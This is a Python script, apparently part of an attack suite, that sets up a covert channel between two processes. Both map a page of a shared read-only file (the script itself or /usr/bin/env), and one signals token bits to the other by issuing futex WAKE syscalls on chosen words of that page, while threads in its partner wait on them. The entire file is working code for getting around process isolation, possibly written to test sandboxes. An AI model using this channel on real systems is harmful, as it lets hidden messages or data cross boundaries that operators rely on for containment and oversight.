"""Tells its partner by waking its threads, which wait on words of a file that both have mapped. Argument 2: whose file."""

import ctypes
import mmap
import os
import sys
import threading
import time

from attack import TOKEN_BITS, bits, libc, pair, syscall, token_of

FUTEX = 202
WAIT, WAKE = 0, 1
END = TOKEN_BITS
woken = set()
threads = []

libc.mmap.restype = ctypes.c_void_p
path = __file__ if sys.argv[2] == "folder" else "/usr/bin/env"
file = os.open(path, os.O_RDONLY)
place = libc.mmap(
    None, ctypes.c_size_t(4096), mmap.PROT_READ, mmap.MAP_SHARED, file, ctypes.c_long(0)
)


def wait(word):
    at = place + 512 + 4 * word
    value = ctypes.c_uint32.from_address(at).value
    while True:
        try:
            libc.syscall(
                ctypes.c_long(FUTEX),
                ctypes.c_void_p(at),
                WAIT,
                ctypes.c_uint(value),
                None,
                None,
                0,
            )
        except OSError:
            return
        woken.add(word)


def send(token):
    for word in [*bits(token), END]:
        syscall(FUTEX, ctypes.c_void_p(place + 512 + 4 * word), WAKE, 64, None, None, 0)


def receive():
    if not threads:
        for word in range(END + 1):
            threads.append(threading.Thread(target=wait, args=(word,), daemon=True))
            threads[-1].start()
    time.sleep(0.05)
    if END not in woken:
        return None
    token = token_of(word for word in woken if word != END)
    woken.clear()
    return token


pair(send, receive)
